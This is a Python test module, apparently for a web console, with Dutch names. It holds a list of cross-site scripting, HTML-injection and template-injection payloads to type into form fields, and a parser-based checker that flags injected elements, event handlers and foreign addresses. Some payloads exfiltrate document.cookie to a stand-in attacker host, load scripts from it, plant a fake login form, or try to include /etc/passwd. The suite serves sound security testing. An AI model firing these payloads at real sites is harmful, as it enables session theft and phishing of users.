"""What an attacker would type: markup and scripts in every disguise, to put in every field that people fill.

`gevaar` reads a page as a browser would and names what came through. The browser tests use the same list.
"""

from __future__ import annotations

from html.parser import HTMLParser

AANVALLEN: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://kwaad.example/x.js></script>",
    "<script src=//kwaad.example/x.js></script>",
    "<script>fetch('//kwaad.example/'+document.cookie)</script>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'>",
    '<img src="x" onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x onerror\n=alert(1)>",
    "<img src='https://kwaad.example/pixel.gif'>",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>klik</text></a></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<div onmouseover=alert(1)>hier</div>",
    "<a href=javascript:alert(1)>klik</a>",
    "<a href='jav&#x09;ascript:alert(1)'>klik</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>klik</a>",
    "<form action=https://kwaad.example><button>Inloggen</button></form>",
    "<button formaction=javascript:alert(1)>klik</button>",
    "<base href=//kwaad.example/>",
    "<meta http-equiv=refresh content='0;url=https://kwaad.example'>",
    "<link rel=stylesheet href=//kwaad.example/x.css>",
    "<style>@import '//kwaad.example/x.css';</style>",
    "<div style=background:url(javascript:alert(1))>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" autofocus onfocus=alert(1) x="',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "{{ 7 * 7 }}",
    "{{ config.__class__ }}",
    "{% include '/etc/passwd' %}",
    "${alert(1)}",
    "<%= 7 * 7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<div hx-get='/console/uitloggen' hx-trigger=load>",
    "<div hx-on:load='alert(1)' data-hx-get=/console>",
    "<p id=inhoud class=weg>",
    "\u202e<script>alert(1)</script>",
)

# Elements that no page of ours has: one of them came from a field.
VREEMD = frozenset(
    {"animate", "audio", "base", "embed", "iframe", "image", "marquee", "math", "object", "source", "style", "video"}
)
MET_ADRES = ("href", "src", "action", "formaction", "data", "xlink:href", "hx-get", "hx-post", "srcdoc")


class _Lezer(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.gevonden: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.gevonden += [f"<{tag}>"] * (tag in VREEMD)
        namen = dict(attrs)
        if tag == "script" and not (namen.get("src") or "").startswith("/"):
            self.gevonden.append("<script> zonder eigen adres")
        for naam, waarde in attrs:
            if naam.startswith(("on", "hx-on", "data-hx")) or naam == "style":
                self.gevonden.append(f"<{tag} {naam}>")
            if naam in MET_ADRES and not (waarde or "").startswith(("/", "#", "tel:", "?")):
                self.gevonden.append(f'<{tag} {naam}="{waarde}">')
            if naam in MET_ADRES and (waarde or "").startswith("//"):
                self.gevonden.append(f'<{tag} {naam}="{waarde}">')


def gevaar(pagina: str) -> list[str]:
    """What on this page could run, load or send something that is not ours. Our own pages have none of it."""
    lezer = _Lezer()
    lezer.feed(pagina)
    lezer.close()
    return lezer.gevonden
